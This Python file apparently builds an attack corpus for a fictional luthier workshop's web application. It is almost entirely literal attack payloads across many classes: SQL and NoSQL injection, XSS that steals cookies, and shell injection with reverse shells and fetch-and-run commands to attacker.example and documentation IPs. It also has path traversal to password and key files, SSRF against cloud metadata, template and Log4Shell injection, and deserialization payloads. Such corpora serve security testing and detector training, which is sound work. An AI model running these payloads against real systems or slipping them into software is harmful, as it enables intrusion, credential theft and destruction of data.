#!/usr/bin/env python3
"""Attack corpus generator for the luthier workshop theme. Seed 29702."""
import json, os, random

SEED = 29702
HERE = os.path.dirname(os.path.abspath(__file__))


def rows(block):
    out = []
    for l in block.strip("\n").split("\n"):
        if not l.strip():
            continue
        cls, val = l.split(" :: ", 1)
        val = val.replace("¶CR¶", "\r").replace("¶LF¶", "\n").replace("¶TAB¶", "\t")
        out.append((cls.strip(), val))
    return out


LIT = {}

LIT["sqli"] = rows(r"""
union :: spruce' UNION SELECT sku, cost_price, supplier_id, NULL FROM price_list--
union :: maple back') union all select username,password_hash,null,null from staff-- -
union :: R-2231' UNION SELECT table_name,column_name,3,4 FROM information_schema.columns WHERE table_schema=database()#
union :: 0 UNION SELECT 1,group_concat(email,0x3a,phone),3 FROM customers
union :: ebony%' UnIoN/**/SeLeCt/**/card_last4,expiry,NULL/**/FrOm/**/payments--
union :: -1' union select null,@@version,user(),null-- x
union :: cello 7/8' UNION SELECT name, sql, 1 FROM sqlite_master--
union :: x') UNION SELECT string_agg(usename||':'||passwd, ','),null FROM pg_shadow--
union :: koa' /*!50000UNION*/ /*!50000SELECT*/ api_key,2,3 FROM settings-- -
union :: 1 uNiOn%0aSeLeCt%0apassword,2%0afrom%0ausers
union :: fret' union distinct select load_file('/etc/passwd'),2,3-- -
union :: C-88' UNION SELECT TOP 1 name,NULL FROM sys.databases--
boolean :: VN-44-STD' AND 1=1 AND 'a'='a
boolean :: GT-OM-CED' AND substring((select password from staff limit 1),1,1)='a'-- 
boolean :: rosewood' OR '7'='7
boolean :: O'Brien' or 2>1 -- 
boolean :: spruce" OR ""="
boolean :: 1 or true
boolean :: ' || 1=1 ; --
boolean :: maple' AND ASCII(SUBSTR((SELECT api_key FROM settings),3,1))>77 AND 'z'='z
boolean :: commission C-88' AND (SELECT COUNT(*) FROM staff WHERE role='admin')>0-- 
boolean :: ' or 'x' like 'x
boolean :: 99' OR ticket_id IS NOT NULL#
boolean :: -3 OR 8=8
boolean :: viola') OR ('q'='q
boolean :: admin'--
boolean :: workshop@example.com' or 1 --
time :: spruce'; SELECT pg_sleep(7)--
time :: 1' AND SLEEP(6)-- -
time :: R-2231' AND IF(ASCII(MID(user(),1,1))>100,SLEEP(4),0)-- x
time :: maple'; WAITFOR DELAY '0:0:8'--
time :: 5 AND (SELECT 4123 FROM (SELECT(SLEEP(5)))xYz)
time :: ebony' AND 7=(SELECT 7 FROM PG_SLEEP(6))--
time :: x' AND BENCHMARK(4000000,SHA1('luthier'))-- 
time :: 1)) OR SLEEP(9)#
time :: cello' || dbms_pipe.receive_message(('q'),7) || '
time :: koa' AND randomblob(300000000) AND 'a'='a
stacked :: bridge blank'; DROP TABLE repair_tickets;--
stacked :: 41 mm'; UPDATE price_list SET price_eur=0.01 WHERE sku LIKE 'VN%';--
stacked :: x'; INSERT INTO staff(username,password_hash,role) VALUES('tech2','x','admin');--
stacked :: '; EXEC master..xp_cmdshell 'ping 203.0.113.9';--
stacked :: 1; DELETE FROM commissions WHERE 1=1
stacked :: spruce'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh';--
stacked :: R-2231'; ALTER TABLE customers ADD COLUMN pwn text;--
stacked :: 0; TRUNCATE wood_stock;--
stacked :: hide glue'; CREATE USER evil WITH SUPERUSER PASSWORD 'x';--
stacked :: 1'; SELECT * INTO OUTFILE '/var/www/html/s.php' FROM (SELECT '<?php system($_GET[c]);?>') q;--
error :: 1' AND extractvalue(1,concat(0x7e,(select version()),0x7e))-- -
error :: maple' AND updatexml(null,concat(0x3a,(SELECT password_hash FROM staff LIMIT 1)),null)-- 
error :: x' AND 1=CONVERT(int,(SELECT TOP 1 email FROM customers))--
error :: cedar' AND 1=CAST((SELECT current_user) AS int)--
error :: 1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(database(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)
error :: VN-44' AND exp(~(select * from (select user())a))-- x
orderby :: price_eur ASC, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)
orderby :: created_at,(select sleep(5))
orderby :: 1,IF((SELECT substr(password_hash,1,1) FROM staff LIMIT 1)='$',sku,price_eur)
orderby :: stock desc; drop table price_list
orderby :: (CASE WHEN (SELECT count(*) FROM staff)>3 THEN sku ELSE item END)
csvimport :: VN-99,Violin 4/4 test',(SELECT password_hash FROM staff LIMIT 1),1)-- ,1,1
csvimport :: SVC-X;Setup';UPDATE staff SET role='admin' WHERE username='guest';--;65,00;1
oob :: x'; SELECT load_file(concat('\\\\',(SELECT password_hash FROM staff LIMIT 1),'.attacker.example\\a'));--
oob :: 1'; EXEC master..xp_dirtree '\\198.51.100.4\share';--
oob :: spruce' UNION SELECT UTL_HTTP.request('http://attacker.example/'||(SELECT user FROM dual)) FROM dual--
obfuscated :: maple'/**/oR/**/1/**/=/**/1/**/--/**/
obfuscated :: ebony'	OR	'1'='1
obfuscated :: x'%20or%201=1--%20
obfuscated :: cello' /*!OR*/ 0x31=0x31-- 
obfuscated :: 1'%2527%2520or%25201=1--
obfuscated :: SPRUCE' Or CHAR(49)=CHAR(49)#
obfuscated :: a'+OR+'b'+LIKE+'b
obfuscated :: koa'%09UNION%09SELECT%09user,pass%09FROM%09staff--
obfuscated :: ＇ ＵＮＩＯＮ ＳＥＬＥＣＴ password_hash FROM staff--
obfuscated :: x'||(SELECT CHR(65)||password_hash FROM staff LIMIT 1)||'
""")

LIT["xss"] = rows(r"""
script :: Lovely varnish!<script>fetch('https://attacker.example/c?'+document.cookie)</script>
script :: Customer: <SCRIPT SRC=//attacker.example/x.js></SCRIPT>
script :: Crack near f-hole</textarea><script>new Image().src='//203.0.113.7/?'+localStorage.token</script>
script :: <script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS9rJyk='))</script> thanks
script :: spruce top AAA<scr<script>ipt>alert(document.domain)</scr</script>ipt>
script :: <script type="module">import('//attacker.example/m.js')</script>
script :: "></title><script>location='//attacker.example/?c='+escape(document.cookie)</script>
handler :: <img src=x onerror=alert(1)> is the bridge blank photo
handler :: Viola 16.5" <img src="nope.jpg" onerror="this.src='//attacker.example/l?'+document.cookie">
handler :: <svg onload=fetch('//attacker.example/'+document.cookie)>
handler :: <body onload=alert`1`>
handler :: <details open ontoggle=confirm(document.domain)>
handler :: <video><source onerror="javascript:alert(1)">
handler :: <input autofocus onfocus=alert(origin)> please call me
handler :: <marquee onstart=alert(1)>new strings in stock</marquee>
handler :: <iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>
handler :: <div style="width:100%;height:100%;position:fixed" onmouseover="alert(1)">rosewood</div>
handler :: <audio src=1 onerror=import('//attacker.example/a.js')>
handler :: <select autofocus onfocus=alert(1)><option>cello</option></select>
handler :: <object data=x onerror=alert(1)>
handler :: <svg><animate onbegin=alert(1) attributeName=x dur=1s>
handler :: <a onpointerenter=alert(1)>hover for the price list</a>
handler :: <img/src/onerror=alert(1)>
handler :: <IMG SRC=x OnErRoR=prompt(1)>
handler :: <form><button formaction=javascript:alert(1)>Confirm order</button></form>
handler :: <textarea autofocus onfocus=alert(document.cookie)>repair notes</textarea>
attr-break :: maple" onmouseover="alert(1)
attr-break :: R-2231' autofocus onfocus='fetch(`//attacker.example/${document.cookie}`)
attr-break :: koa"><img src=x onerror=alert(document.domain)>
attr-break :: " style="animation-name:rotation" onanimationstart="alert(1)
attr-break :: x' accesskey='x' onclick='alert(1)
attr-break :: spruce"/><svg/onload=alert(1)>
uri :: javascript:alert(document.cookie)
uri :: JaVaScRiPt:fetch('//attacker.example/'+document.cookie)
uri :: <a href="jav&#x09;ascript:alert(1)">see my photos</a>
uri :: <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">invoice</a>
uri :: <iframe src="javascript:alert(parent.document.cookie)"></iframe>
uri :: <a href=" &#14; javascript:alert(1)">click</a>
uri :: java%0dscript:alert(1)
uri :: <embed src="javascript:alert(1)">
uri :: <math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICK</maction></math>
uri :: https://www.example.com/luthier" onclick="alert(1)
encoded :: Rosewood set &lt;script&gt;alert(1)&lt;/script&gt;
encoded :: %3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E
encoded :: %253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E
encoded :: <img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>
encoded :: <img src=x onerror="\u0061lert(1)">
encoded :: <svg><script>&#x61;lert&#x28;1&#x29;</script></svg>
encoded :: ＜script＞alert(1)＜/script＞
encoded :: \x3cscript\x3ealert(1)\x3c/script\x3e
encoded :: <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">wood list</a>
encoded :: %u003Cscript%u003Ealert(1)%u003C/script%u003E
dom :: #<img src=x onerror=alert(1)>
dom :: '-alert(1)-'
dom :: ";alert(String.fromCharCode(88,83,83));//
dom :: </script><script>alert(1)</script>
dom :: \";alert(1);//
dom :: ${alert(document.domain)}
markdown :: [my build photos](javascript:alert(document.cookie))
markdown :: ![varnish](x" onerror="alert(1))
markdown :: [click](data:text/html,<script>alert(1)</script>)
css :: <style>@import 'https://attacker.example/x.css';</style>
css :: <div style="background:url(javascript:alert(1))">spruce</div>
css :: <style>input[name=csrf][value^=a]{background:url(//attacker.example/a)}</style>
svg :: <svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>
svg :: <svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">Price list</text></a></svg>
svg :: <svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
mxss :: <noscript><p title="</noscript><img src=x onerror=alert(1)>">
mxss :: <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>
mxss :: <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
template :: {{constructor.constructor('alert(1)')()}}
template :: <div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)></div>
template :: <div v-html="'<img src=x onerror=alert(1)>'"></div>
meta :: <meta http-equiv="refresh" content="0;url=https://attacker.example/login">
meta :: <base href="https://attacker.example/">
""")

LIT["cmdi"] = rows(r"""
chain :: label.pdf; curl -s http://attacker.example/i.sh | sh
chain :: price_list.csv && wget -qO- 203.0.113.14/x | bash
chain :: VN-44 | nc 198.51.100.3 4444 -e /bin/sh
chain :: photo.jpg || bash -i >& /dev/tcp/203.0.113.20/443 0>&1
chain :: build-214.png; cat /etc/shadow > /srv/workshop/exports/s.txt
chain :: R-2231;id
chain :: spruce top; rm -rf /srv/workshop/backups/*
chain :: backup_2024.tar.gz & certutil -urlcache -f http://attacker.example/a.exe %TEMP%\a.exe & %TEMP%\a.exe
chain :: invoice.pdf | powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p')"
chain :: x; python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
chain :: label_tpl.txt; echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjMvODAgMD4mMQ== | base64 -d | bash
chain :: cello.jpg%0acurl attacker.example/k -o /tmp/k%0achmod +x /tmp/k%0a/tmp/k
chain :: scan.tif; perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(8080,inet_aton("198.51.100.12")));open(STDIN,">&S");exec("/bin/sh -i")'
chain :: 1 & whoami & ipconfig /all
chain :: koa.png; crontab -l | { cat; echo "* * * * * curl attacker.example/b|sh"; } | crontab -
chain :: 127.0.0.1; uname -a; cat /proc/version
chain :: mandolin_setup.pdf;/usr/bin/id>/tmp/o
chain :: abc;ping -c 3 203.0.113.8
chain :: backups && tar czf - /etc | curl -T - http://attacker.example/up
chain :: export.csv ; php -r '$s=fsockopen("198.51.100.7",1234);exec("sh <&3 >&3 2>&3");'
subst :: $(curl -fsSL attacker.example/s|sh)
subst :: `nslookup $(whoami).attacker.example`
subst :: violin_$(id).jpg
subst :: spruce`sleep 10`top
subst :: R-$(cat /etc/passwd | base64 -w0 | curl -d @- attacker.example)
subst :: ${IFS}$(wget${IFS}-q${IFS}-O-${IFS}203.0.113.44/r|sh)
subst :: label `uname -a > /srv/www/u.txt`.pdf
subst :: $(printf '\x63\x75\x72\x6c') attacker.example/z|sh
subst :: <(curl attacker.example/q)
subst :: photo_$((1+$(id -u))).png
newline :: build log 214%0Aid%0A
newline :: maple_back.jpg¶LF¶wget http://attacker.example/m -O /tmp/m && sh /tmp/m
newline :: price.csv%0d%0acat%20/etc/passwd
newline :: ticket-12¶LF¶nc -e /bin/bash 203.0.113.60 8443
evasion :: ;c''at${IFS}/e't'c/pa''ss\wd
evasion :: ;/???/??t${IFS}/???/p?ss??
evasion :: |c\u\r\l attacker.example/x|s\h
evasion :: ;{cat,/etc/passwd}
evasion :: ;$'\x63\x61\x74' /etc/passwd
evasion :: &&w"h"o"a"m"i
evasion :: ;X=$'\x20';curl${X}attacker.example/y|sh
evasion :: ;a=ca;b=t;$a$b /etc/hostname
evasion :: ;cat$IFS$9/etc/passwd
evasion :: ;echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d|sh
evasion :: ;/bin/b?sh -c 'id'
evasion :: ;$(tr 'a-z' 'n-za-m' <<< 'phey') attacker.example|sh
evasion :: ;`echo "d2hvYW1p" | base64 -d`
evasion :: &&%20c%5Eu%5Er%5El%20attacker.example
evasion :: | C:\Windows\System32\cmd.exe /c "type C:\Windows\win.ini"
evasion :: & set /p=<C:\inetpub\wwwroot\web.config
evasion :: ;${PATH:0:1}bin${PATH:0:1}sh -c id
evasion :: ;{wget,attacker.example/b,-O,/tmp/b};sh</tmp/b
argument :: --output=/var/www/html/shell.php http://attacker.example/s.txt
argument :: -oProxyCommand=curl${IFS}attacker.example/x|sh
argument :: --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh
argument :: -exec /bin/sh -c 'curl attacker.example/f|sh' ;
argument :: --post-file=/etc/passwd http://attacker.example/
argument :: scan.pdf -dNOSAFER -sOutputFile=%pipe%id
argument :: -o /srv/workshop/exports/../../../../etc/cron.d/x
argument :: label.png -write msl:/tmp/x.msl
argument :: ' --use-compress-program='sh -c id' '
imagemagick :: push graphic-context viewbox 0 0 640 480 fill 'url(https://example.com/a.jpg"|curl "attacker.example/x)' pop graphic-context
ghostscript :: %!PS userdict /setpagedevice undef save legal { null restore } stopped { pop } if (%pipe%curl attacker.example/g|sh) (w) file
powershell :: ; Invoke-WebRequest -Uri http://attacker.example/p.ps1 -OutFile $env:TEMP\p.ps1; & $env:TEMP\p.ps1
powershell :: | powershell -enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAA=
powershell :: & cmd /c "net user svc_backup P@ss /add && net localgroup administrators svc_backup /add"
windows :: | dir C:\Users\ & type C:\Users\Public\*.txt
windows :: & rundll32 \\198.51.100.9\share\x.dll,Start
windows :: | mshta http://attacker.example/a.hta
windows :: %26%26 whoami /priv
blind :: ; sleep 12 #
blind :: | ping -n 11 127.0.0.1
blind :: & timeout /t 9 &
blind :: $(sleep${IFS}7)
""")

LIT["traversal"] = rows(r"""
dotdot :: ../../../../etc/passwd
dotdot :: photos/build-214/../../../../../etc/shadow
dotdot :: ../../../srv/workshop/config/settings.ini
dotdot :: labels/../../../../../../proc/self/environ
dotdot :: price_list.csv/../../../../root/.ssh/id_rsa
dotdot :: ..\..\..\..\Windows\win.ini
dotdot :: exports\..\..\..\..\inetpub\wwwroot\web.config
dotdot :: ../../../../var/log/nginx/access.log
dotdot :: ../../../../home/luthier/.bash_history
dotdot :: uploads/../../app/.env
dotdot :: ../../../../../../proc/self/cmdline
dotdot :: ....//....//....//....//etc/passwd
dotdot :: ..././..././..././..././etc/hosts
dotdot :: ....\\....\\....\\Windows\\System32\\drivers\\etc\\hosts
dotdot :: varnish/..;/..;/..;/WEB-INF/web.xml
dotdot :: /srv/workshop/exports/../../../etc/group
absolute :: /etc/passwd
absolute :: C:\Windows\System32\config\SAM
absolute :: /proc/self/fd/3
absolute :: file:///etc/passwd
absolute :: \\198.51.100.20\share\payload.csv
absolute :: /var/run/secrets/kubernetes.io/serviceaccount/token
encoded :: %2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
encoded :: ..%2f..%2f..%2f..%2fetc%2fshadow
encoded :: %252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd
encoded :: ..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd
encoded :: ..%e0%80%af..%e0%80%af..%e0%80%afetc/passwd
encoded :: %c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
encoded :: ..%u2215..%u2215..%u2215etc%u2215passwd
encoded :: %u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd
encoded :: ..%5c..%5c..%5c..%5cwindows%5cwin.ini
encoded :: ..%255c..%255c..%255cboot.ini
encoded :: .%2e/.%2e/.%2e/.%2e/etc/passwd
encoded :: %2e%2e/%2e%2e/%2e%2e/app/config/database.yml
encoded :: ..／..／..／..／etc／passwd
encoded :: ．．/．．/．．/etc/passwd
nullbyte :: ../../../../etc/passwd%00.jpg
nullbyte :: build-214.pdf/../../../../../etc/shadow\u0000.pdf
nullbyte :: ../../../../srv/workshop/config/db.php%00.png
wrapper :: php://filter/convert.base64-encode/resource=../config/settings.php
wrapper :: php://filter/read=string.rot13/resource=index.php
wrapper :: zip://uploads/price_list.zip%23shell.php
wrapper :: phar://uploads/photo.jpg/x
wrapper :: jar:file:///srv/app/lib/app.jar!/application.properties
archive :: ../../../../../../var/www/html/rev.php
archive :: ..\..\..\..\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\x.bat
""")

LIT["ssrf"] = rows(r"""
metadata :: http://169.254.169.254/latest/meta-data/iam/security-credentials/
metadata :: http://169.254.169.254/latest/user-data
metadata :: http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
metadata :: http://169.254.169.254/metadata/instance?api-version=2021-02-01
metadata :: http://100.100.100.200/latest/meta-data/ram/security-credentials/
metadata :: http://[fd00:ec2::254]/latest/meta-data/
metadata :: http://169.254.169.254.nip.io/latest/meta-data/
metadata :: http://instance-data/latest/meta-data/hostname
loopback :: http://127.0.0.1:8080/admin/users
loopback :: http://localhost:6379/
loopback :: http://127.0.0.1:9200/_cat/indices
loopback :: http://localhost/server-status
loopback :: https://127.0.0.1:2375/containers/json
loopback :: http://[::1]:8500/v1/agent/self
loopback :: http://0.0.0.0:5984/_all_dbs
loopback :: http://localhost:15672/api/users
internal :: http://10.0.0.5/phpmyadmin/
internal :: http://192.168.1.1/cgi-bin/config.exp
internal :: http://172.17.0.1:2379/v2/keys/?recursive=true
internal :: http://kubernetes.default.svc/api/v1/namespaces/default/secrets
internal :: http://consul.service.consul:8500/v1/kv/?recurse
internal :: http://jenkins.internal:8080/script
internal :: http://db-primary.local:5432/
altip :: http://2130706433/admin
altip :: http://0x7f000001/
altip :: http://0177.0.0.1/
altip :: http://127.1/
altip :: http://017700000001:8080/
altip :: http://2852039166/latest/meta-data/
altip :: http://0xA9.0xFE.0xA9.0xFE/latest/meta-data/
altip :: http://[::ffff:127.0.0.1]/
altip :: http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/
altip :: http://①②⑦.⓪.⓪.①/
altip :: http://127.000.000.001/
confusion :: https://www.example.com@127.0.0.1/admin
confusion :: http://attacker.example#@www.example.com/
confusion :: http://www.example.com.attacker.example/
confusion :: http://127.0.0.1%2523@www.example.com/
confusion :: http://203.0.113.66/redirect?to=http://169.254.169.254/latest/meta-data/
confusion :: https://attacker.example/302.php?u=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin
scheme :: gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A
scheme :: dict://127.0.0.1:11211/stats
scheme :: file:///c:/windows/win.ini
scheme :: ftp://198.51.100.30:21/../../etc/passwd
scheme :: ldap://127.0.0.1:389/dc=workshop
scheme :: tftp://203.0.113.40/boot.cfg
scheme :: gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E
scheme :: netdoc:///etc/passwd
scheme :: jar:http://attacker.example/x.jar!/
scheme :: http://127.0.0.1:80%0d%0aHost:%20internal-admin
""")

LIT["code"] = rows(r"""
ssti-jinja :: {{ cycler.__init__.__globals__.os.popen('id').read() }}
ssti-jinja :: Dear {{ customer_first_name }}, {{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('curl attacker.example/j|sh').read() }}
ssti-jinja :: {{ ''.__class__.__mro__[1].__subclasses__() }}
ssti-jinja :: {% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}
ssti-jinja :: {{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}
ssti-jinja :: {{ config.items() }}
ssti-jinja :: {{ lipsum.__globals__['os'].popen('whoami').read() }}
ssti-jinja :: {{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f') }}
ssti-jinja :: {{ namespace.__init__.__globals__.os.environ }}
ssti-twig :: {{ ['id']|filter('system') }}
ssti-twig :: {{ _self.env.registerUndefinedFilterCallback("exec") }}{{ _self.env.getFilter("curl attacker.example/t") }}
ssti-twig :: {{ ['cat /etc/passwd',0]|sort('passthru') }}
ssti-freemarker :: <#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }
ssti-freemarker :: ${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder",["sh","-c","id"]).start()}
ssti-velocity :: #set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()
ssti-erb :: <%= `curl attacker.example/e | sh` %>
ssti-erb :: <%= File.read('/etc/passwd') %>
ssti-erb :: <%= IO.popen('id').readlines() %>
ssti-smarty :: {system('cat /etc/passwd')}
ssti-smarty :: {Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET['c']); ?>",self::clearConfig())}
ssti-handlebars :: {{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return process.mainModule.require('child_process').execSync('id');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
ssti-pug :: #{global.process.mainModule.require('child_process').execSync('id')}
ssti-nunjucks :: {{ range.constructor("return global.process.mainModule.require('child_process').execSync('cat /etc/passwd')")() }}
ssti-tornado :: {% import os %}{{ os.popen("id").read() }}
ssti-mako :: ${ __import__('os').popen('id').read() }
ssti-thymeleaf :: __${T(java.lang.Runtime).getRuntime().exec('id')}__::.x
el-spel :: ${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}
el-spel :: #{T(java.lang.System).getenv()}
el-spel :: *{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}
el-ognl :: %{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
el-ognl :: ${(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('touch /tmp/pwn'))}
el-jsp :: ${pageContext.request.getSession().getServletContext().getRealPath('/')}
el-jsp :: ${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getRuntime(),'id')}
el-mvel :: @{java.lang.Runtime.getRuntime().exec("id")}
log4shell :: ${jndi:ldap://attacker.example:1389/Exploit}
log4shell :: Violin ready? ${jndi:rmi://203.0.113.77/o}
log4shell :: ${${lower:j}ndi:${lower:l}dap://attacker.example/a}
log4shell :: ${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.5/x}
log4shell :: ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}
log4shell :: ${j${upper:n}di:ldaps://attacker.example/z}
log4shell :: ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/n}
log4shell :: %24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fu%7D
log4shell :: ${jndi:ldap://${hostName}.attacker.example/h}
eval-js :: require('child_process').exec('curl attacker.example/n|sh')
eval-js :: ');process.mainModule.require('child_process').execSync('id');//
eval-js :: (function(){return this})().process.binding('spawn_sync')
eval-js :: this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd')
eval-python :: __import__('os').system('curl attacker.example/py|sh')
eval-python :: 1;exec("import subprocess;subprocess.call(['sh','-c','id'])")
eval-python :: eval(compile('import os;os.system("id")','x','exec'))
eval-php :: <?php system($_GET['cmd']); ?>
eval-php :: <?=`$_POST[x]`?>
eval-php :: ${@eval(base64_decode($_GET[q]))}
eval-php :: ';assert($_REQUEST['a']);//
eval-ruby :: #{%x(curl attacker.example/r | sh)}
proto :: {"__proto__":{"isAdmin":true}}
proto :: {"constructor":{"prototype":{"role":"admin"}}}
proto :: __proto__[shell]=/proc/self/exe&__proto__[argv0]=console.log(require('child_process').execSync('id').toString())//
proto :: {"notes":"spruce","__proto__":{"outputFunctionName":"x;process.mainModule.require('child_process').execSync('id');s"}}
proto :: constructor[prototype][polluted]=yes
proto :: {"__proto__":{"NODE_OPTIONS":"--require /proc/self/environ","env":{"A":"console.log(1)//"}}}
formula :: =HYPERLINK("http://attacker.example/?d="&A2&B2,"Price list")
formula :: =cmd|' /C calc'!A0
formula :: +SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/x)'!A1
formula :: -2+3+cmd|' /C notepad'!'A1'
formula :: @SUM(1+9)*cmd|' /C curl attacker.example/d'!A1
formula :: VN-50,"=IMPORTXML(CONCAT(""http://attacker.example/?v="",A1),""//a"")",1250.00,3
formula :: SVC-X;=WEBSERVICE("http://attacker.example/"&A1&B1);65,00;1
formula :: =DDE("cmd";"/C calc";"__DdeLink_60_870516294")
formula :: 	=1+1+cmd|'/c whoami'!A1
xxe :: <?xml version="1.0"?><!DOCTYPE order [<!ENTITY x SYSTEM "file:///etc/passwd">]><order><note>&x;</note></order>
xxe :: <!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><r/>
xxe :: <?xml version="1.0"?><!DOCTYPE po [<!ENTITY s SYSTEM "http://169.254.169.254/latest/meta-data/">]><po><sku>&s;</sku></po>
xxe :: <!DOCTYPE x [<!ENTITY % f SYSTEM "php://filter/convert.base64-encode/resource=/etc/hosts"><!ENTITY % d SYSTEM "http://attacker.example/d.dtd">%d;]>
xxe :: <svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///srv/workshop/.env">]><text>&e;</text></svg>
xxe :: <?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><q>&c;</q>
xxe :: <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>
deser-php :: O:8:"Workshop":1:{s:4:"file";s:11:"/etc/passwd";}
deser-php :: a:1:{i:0;O:29:"GuzzleHttp\Psr7\FnStream":1:{s:9:"_fn_close";s:6:"system";}}
deser-java :: rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw
deser-python :: cos¶LF¶system¶LF¶(S'curl attacker.example/pk|sh'¶LF¶tR.
deser-python :: gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==
deser-yaml :: !!python/object/apply:os.system ["curl attacker.example/y | sh"]
deser-yaml :: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/y.jar"]]]]
deser-net :: {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
deser-json :: {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example:1389/o","autoCommit":true}
""")

LIT["nosqli"] = rows(r"""
operator :: {"username": {"$ne": null}, "password": {"$ne": null}}
operator :: {"ticket_id": {"$gt": ""}}
operator :: {"email": {"$regex": "^a.*"}, "password": {"$exists": true}}
operator :: username[$ne]=x&password[$ne]=x
operator :: sku[$regex]=.*&price[$lt]=999999
operator :: {"customer": "O'Brien", "status": {"$nin": ["closed"]}, "$comment": "dump"}
operator :: {"role": {"$in": ["admin", "owner"]}}
operator :: password[$regex]=^p.{7}$
operator :: {"$or": [{"wood": "spruce"}, {"1": {"$exists": false}}]}
operator :: commission[$gte]=
operator :: {"api_key": {"$regex": "^sk_"}}
operator :: {"login":"admin","pass":{"$not":{"$eq":"x"}}}
where :: {"$where": "sleep(5000) || true"}
where :: '; return this.password.match(/^a/) && sleep(3000); var x='
where :: {"$where": "this.role == 'admin' || '1'=='1'"}
where :: 1'; while(true){}; '
where :: {"$where": "function(){ return obj.credit_card.length > 0 }"}
js :: spruce'||'1'=='1
js :: ";return true;var a="
js :: {"$function": {"body": "function(){return db.getSiblingDB('admin')}", "args": [], "lang": "js"}}
aggregation :: [{"$lookup": {"from": "staff", "localField": "x", "foreignField": "x", "as": "s"}}]
